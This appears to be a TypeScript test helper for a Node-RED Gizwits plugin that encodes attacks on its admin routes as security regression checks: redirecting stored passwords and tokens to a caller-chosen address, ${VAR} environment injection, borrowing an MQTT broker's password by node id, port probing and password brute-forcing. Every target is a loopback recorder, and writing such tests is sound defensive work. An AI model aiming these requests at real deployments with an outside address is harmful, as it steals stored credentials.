// The attacks on the editor's admin routes that were reproduced on loopback, each as a function that
// tells whether it worked. Shared by the route tests (unit-test helper), the headless adminAuth test and
// the soak part, so that all three try the same things. Every "cloud" an attack points the runtime at is
// a recording listener on a loopback port the OS chose; nothing leaves 127.0.0.1.
import http from 'node:http';
import net from 'node:net';
import { freePort } from './node-red-process';

/** Sends a JSON body to a route by other means than HTTP (the unit-test helper's in-process app). */
export type Sender = (route: string, body: unknown) => Promise<Answer>;

export interface Caller {
  /** Node-RED's admin root, e.g. http://127.0.0.1:41234 (no trailing slash). */
  baseUrl?: string;
  /** The caller's headers (Authorization: Bearer ...); none for an anonymous caller. */
  headers?: Record<string, string>;
  /** Used instead of an HTTP request to `baseUrl` when given. */
  send?: Sender;
}

export interface AttackTarget extends Caller {
  /** A deployed gizwits-account in password mode with stored credentials. */
  accountId: string;
  /** A deployed gizwits-account in token mode with a stored token. */
  tokenAccountId: string;
  /** A deployed core mqtt-broker with a stored password. */
  mqttBrokerId: string;
  /** A deployed gizwits-account whose stored password the cloud refuses. */
  refusedAccountId: string;
  /** The AppID the deployed accounts use. */
  appId: string;
  /** An environment variable of the Node-RED process, whose value must never come out. */
  canary: { name: string; value: string };
  /** Stored values that must never reach a listener or an answer: passwords, the token. */
  secrets: string[];
  /** The cloud the deployed accounts use, and how many refused sign-ins it has seen so far. */
  cloud: { url: string; refusedLogins(): number };
  /** Wrong passwords to try in the cooldown attack (default 5). */
  wrongPasswords?: number;
}

export interface AttackResult {
  name: string;
  succeeded: boolean;
  /** What happened, in words; never a secret. */
  detail: string;
  /** Counts of the cooldown attack: sign-ins tried and those that reached the cloud. */
  figures?: { tried: number; reached: number };
}

export interface Answer {
  status: number;
  text: string;
  body: Record<string, unknown>;
  retryAfter: string | null;
}

export interface RecordedRequest {
  method: string;
  url: string;
  /** The request line, headers and body as received, to search for secrets. */
  raw: string;
}

/** A "cloud" that is not one: it records every request and answers as a plain web server would. */
export interface RecordingCloud {
  url: string;
  requests: RecordedRequest[];
  close(): Promise<void>;
}

/**
 * Listens on a free loopback port. `html` answers 404 with a web page; `reset` drops every connection
 * as soon as it is made; `silent` accepts and never answers (a time-out). Connections of the last two
 * count as requests with method "RESET" or "SILENT".
 */
export async function recordingCloud(kind: 'html' | 'reset' | 'silent' = 'html'): Promise<RecordingCloud> {
  const requests: RecordedRequest[] = [];
  const sockets = new Set<net.Socket>();
  let server: net.Server;
  if (kind === 'reset' || kind === 'silent') {
    server = net.createServer((socket) => {
      requests.push({ method: kind.toUpperCase(), url: '', raw: '' });
      if (kind === 'reset') socket.resetAndDestroy();
    });
  } else {
    server = http.createServer((req, res) => {
      const chunks: Buffer[] = [];
      req.on('data', (chunk: Buffer) => chunks.push(chunk));
      req.on('end', () => {
        const head = `${req.method} ${req.url}\n${JSON.stringify(req.headers)}\n`;
        requests.push({
          method: req.method ?? '',
          url: req.url ?? '',
          raw: head + Buffer.concat(chunks).toString('utf8'),
        });
        res.writeHead(404, { 'Content-Type': 'text/html' });
        res.end('<html><body><h1>Not Found</h1></body></html>');
      });
    });
  }
  server.on('connection', (socket: net.Socket) => {
    sockets.add(socket);
    socket.on('close', () => sockets.delete(socket));
  });
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, '127.0.0.1', () => resolve());
  });
  const { port } = server.address() as net.AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    requests,
    close: () =>
      new Promise<void>((resolve) => {
        for (const socket of sockets) socket.destroy();
        server.close(() => resolve());
      }),
  };
}

/** POSTs a JSON body to one of the routes (devices, datapoints, groups, scenes, login-test). */
export async function postRoute(target: Caller, route: string, body: unknown): Promise<Answer> {
  if (target.send) return target.send(route, body);
  const response = await fetch(`${target.baseUrl}/gizwits/account/${route}`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', ...target.headers },
    body: JSON.stringify(body),
  });
  const text = await response.text();
  let parsed: unknown;
  try {
    parsed = JSON.parse(text);
  } catch {
    parsed = undefined;
  }
  return {
    status: response.status,
    text,
    body: parsed && typeof parsed === 'object' ? (parsed as Record<string, unknown>) : {},
    retryAfter: response.headers.get('retry-after'),
  };
}

const PICKLISTS = ['devices', 'datapoints', 'groups', 'scenes'] as const;
const ROUTES = [...PICKLISTS, 'login-test'] as const;

type Attack = (target: AttackTarget) => Promise<Omit<AttackResult, 'name'>>;

/** Which of the secrets (by position, never by value) occur in a text. */
function leaked(text: string, secrets: string[]): string[] {
  return secrets.flatMap((secret, i) => (secret && text.includes(secret) ? [`secret #${i + 1}`] : []));
}

function mustNotLeak(target: AttackTarget): string[] {
  return [...target.secrets, target.canary.value];
}

/** Points the runtime at a recording listener with `body(listenerUrl)`; works if anything arrives. */
function redirect(route: string, body: (t: AttackTarget, url: string) => Record<string, unknown>): Attack {
  return async (target) => {
    const cloud = await recordingCloud();
    try {
      const answer = await postRoute(target, route, body(target, cloud.url));
      const carried = cloud.requests.flatMap((r) => leaked(r.raw, mustNotLeak(target)));
      const echoed = leaked(answer.text, mustNotLeak(target));
      const arrived = cloud.requests.length;
      return {
        succeeded: arrived > 0 || echoed.length > 0,
        detail:
          `HTTP ${answer.status}; the listener received ${arrived} request(s)` +
          (carried.length ? `, carrying ${[...new Set(carried)].join(', ')}` : '') +
          (echoed.length ? `; the answer carried ${echoed.join(', ')}` : ''),
      };
    } finally {
      await cloud.close();
    }
  };
}

function customConfig(t: AttackTarget, url: string, authMode = 'password') {
  return { region: 'custom', apiUrl: url, appId: t.appId, authMode, secure: false };
}

const extraFor = (route: string) =>
  route === 'datapoints' ? { did: 'AnyDevice0000000000000' } : ({} as Record<string, unknown>);

/**
 * The same refusal (status, code, class, message) whatever the port did: closed, a web page, a reset, or
 * silence until the route's time-out (settings.gizwits.editorTimeoutMs keeps that short in tests).
 */
const portState: Attack = async (target) => {
  const listeners = await Promise.all([
    recordingCloud('html'),
    recordingCloud('reset'),
    recordingCloud('silent'),
  ]);
  const closedPort = await freePort();
  try {
    const seen: string[] = [];
    for (const route of ['devices', 'login-test']) {
      const shapes = new Set<string>();
      for (const url of [`http://127.0.0.1:${closedPort}`, ...listeners.map((l) => l.url)]) {
        const answer = await postRoute(target, route, {
          config: customConfig(target, url),
          credentials: { username: 'port-probe', password: 'Probe-Pass-1234' },
        });
        const { code, failure, message } = answer.body;
        shapes.add(JSON.stringify([answer.status, code, failure, message]));
      }
      seen.push(`${route}: ${shapes.size} distinct answer(s) ${[...shapes].join(' | ')}`);
    }
    return {
      succeeded: seen.some((line) => !line.includes(': 1 distinct')),
      detail: seen.join('; '),
    };
  } finally {
    await Promise.all(listeners.map((l) => l.close()));
  }
};

/** `${VAR}` in a body: neither resolved (the listener would get it) nor echoed in the answer. */
const envInBody: Attack = async (target) => {
  const cloud = await recordingCloud();
  const reference = `\${${target.canary.name}}`;
  try {
    const answers = [
      await postRoute(target, 'devices', {
        config: customConfig(target, reference),
        credentials: { username: 'env-probe', password: 'Probe-Pass-1234' },
      }),
      await postRoute(target, 'login-test', {
        config: customConfig(target, cloud.url),
        credentials: { username: 'env-probe', password: reference },
      }),
      await postRoute(target, 'scenes', {
        id: target.accountId,
        config: { ...customConfig(target, cloud.url), appId: reference },
        credentials: { username: reference, password: 'Probe-Pass-1234' },
      }),
    ];
    const inAnswers = answers.filter((a) => a.text.includes(target.canary.value)).length;
    const inRequests = cloud.requests.filter((r) => r.raw.includes(target.canary.value)).length;
    return {
      succeeded: inAnswers > 0 || inRequests > 0,
      detail:
        `HTTP ${answers.map((a) => a.status).join(', ')}; the value came back in ${inAnswers} answer(s) ` +
        `and reached the listener in ${inRequests} request(s)`,
    };
  } finally {
    await cloud.close();
  }
};

/** Ids that are not a deployed gizwits-account serve nothing, with or without settings of their own. */
function foreignId(id: (t: AttackTarget) => string): Attack {
  return async (target) => {
    const alone = await postRoute(target, 'devices', { id: id(target) });
    const echoed = leaked(alone.text, mustNotLeak(target));
    const redirected = await redirect('devices', (t, url) => ({
      id: id(t),
      config: customConfig(t, url),
      credentials: { username: 'broker-probe' },
    }))(target);
    return {
      succeeded: alone.status === 200 || echoed.length > 0 || redirected.succeeded,
      detail: `by id alone: HTTP ${alone.status}; with a listener's address: ${redirected.detail}`,
    };
  };
}

/**
 * Wrong passwords through the routes: typed ones (a caller who may edit), then the deployed account
 * the cloud refuses (any reader). At most 3 refusals may reach the cloud per (cloud, user) in 5 minutes;
 * every later try must answer 429 with the wait.
 */
const cooldown: Attack = async (target) => {
  const tries = target.wrongPasswords ?? 5;
  const user = `cooldown-${Math.random().toString(36).slice(2, 10)}`;
  const before = target.cloud.refusedLogins();
  const typed: Answer[] = [];
  for (let i = 0; i < tries; i += 1) {
    typed.push(
      await postRoute(target, 'login-test', {
        config: customConfig(target, target.cloud.url),
        credentials: { username: user, password: `Wrong-Pass-${i}-x` },
      }),
    );
  }
  const typedReached = target.cloud.refusedLogins() - before;
  const middle = target.cloud.refusedLogins();
  const stored: Answer[] = [];
  for (let i = 0; i < tries; i += 1)
    stored.push(await postRoute(target, 'groups', { id: target.refusedAccountId }));
  const storedReached = target.cloud.refusedLogins() - middle;
  // A try that did not reach the cloud must say how long to wait (or be refused outright: 401/403).
  const silent = [...typed, ...stored].filter(
    (a) =>
      a.status !== 401 &&
      a.status !== 403 &&
      a.body.code !== 9020 &&
      !(a.status === 429 && /\d+ ?s|\d+ 秒/.test(String(a.body.message)) && a.retryAfter),
  ).length;
  return {
    succeeded: typedReached > 3 || storedReached > 3 || silent > 0,
    detail:
      `typed: ${typedReached} of ${tries} reached the cloud (HTTP ${typed.map((a) => a.status).join(',')}); ` +
      `stored: ${storedReached} of ${tries} (HTTP ${stored.map((a) => a.status).join(',')}); ` +
      `${silent} answer(s) neither reached the cloud nor said how long to wait`,
    figures: { tried: 2 * tries, reached: typedReached + storedReached },
  };
};

const ATTACKS: Array<[string, Attack]> = [
  ...ROUTES.map((route): [string, Attack] => [
    `stored credentials sent to an address of the caller's choosing (${route})`,
    redirect(route, (t, url) => ({ id: t.accountId, config: customConfig(t, url), ...extraFor(route) })),
  ]),
  [
    'stored password behind the placeholder sent to an address of the caller’s choosing',
    redirect('devices', (t, url) => ({
      id: t.accountId,
      config: customConfig(t, url),
      credentials: { username: 'demo', password: '__PWRD__' },
    })),
  ],
  [
    'stored token sent in a header to an address of the caller’s choosing',
    redirect('scenes', (t, url) => ({ id: t.tokenAccountId, config: customConfig(t, url, 'token') })),
  ],
  ['the id of an mqtt-broker node lends its password', foreignId((t) => t.mqttBrokerId)],
  ['an id that names no node', foreignId(() => 'no-such-node-id')],
  ['${VAR} in a request body resolved or echoed', envInBody],
  ['port state told apart by the answer', portState],
  ['wrong passwords through the routes without a cooldown', cooldown],
];

/** Runs every attack, one after another, as the caller `target.headers` names. */
export async function runAdminAttacks(target: AttackTarget): Promise<AttackResult[]> {
  const results: AttackResult[] = [];
  for (const [name, attack] of ATTACKS) {
    try {
      results.push({ name, ...(await attack(target)) });
    } catch (error) {
      // An attack that could not be run proves nothing: count it as not refuted.
      results.push({ name, succeeded: true, detail: `could not run: ${(error as Error).message}` });
    }
  }
  return results;
}

/** The number of attacks runAdminAttacks tries. */
export const ATTACK_COUNT = ATTACKS.length;
